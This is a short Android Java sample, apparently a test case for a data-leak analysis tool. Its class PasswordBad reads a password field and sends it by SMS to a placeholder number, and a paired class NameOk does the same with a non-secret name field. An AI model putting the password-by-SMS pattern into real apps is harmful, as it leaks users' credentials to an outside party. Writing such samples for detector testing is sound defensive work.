package org.gdroid.samples.passwordfield;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.view.View;
import android.widget.EditText;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
    }

    public void send(View view) {
        PasswordBad.run(this);
        NameOk.run(this);
    }
}

class PasswordBad {
    static void run(Activity activity) {
        EditText field = (EditText) activity.findViewById(R.id.password);
        String text = field.getText().toString();
        SmsManager.getDefault().sendTextMessage("+49 1234", null, text, null, null);
    }
}

/** What is typed into an ordinary field is not a secret. */
class NameOk {
    static void run(Activity activity) {
        EditText field = (EditText) activity.findViewById(R.id.name);
        String text = field.getText().toString();
        SmsManager.getDefault().sendTextMessage("+49 1234", null, text, null, null);
    }
}
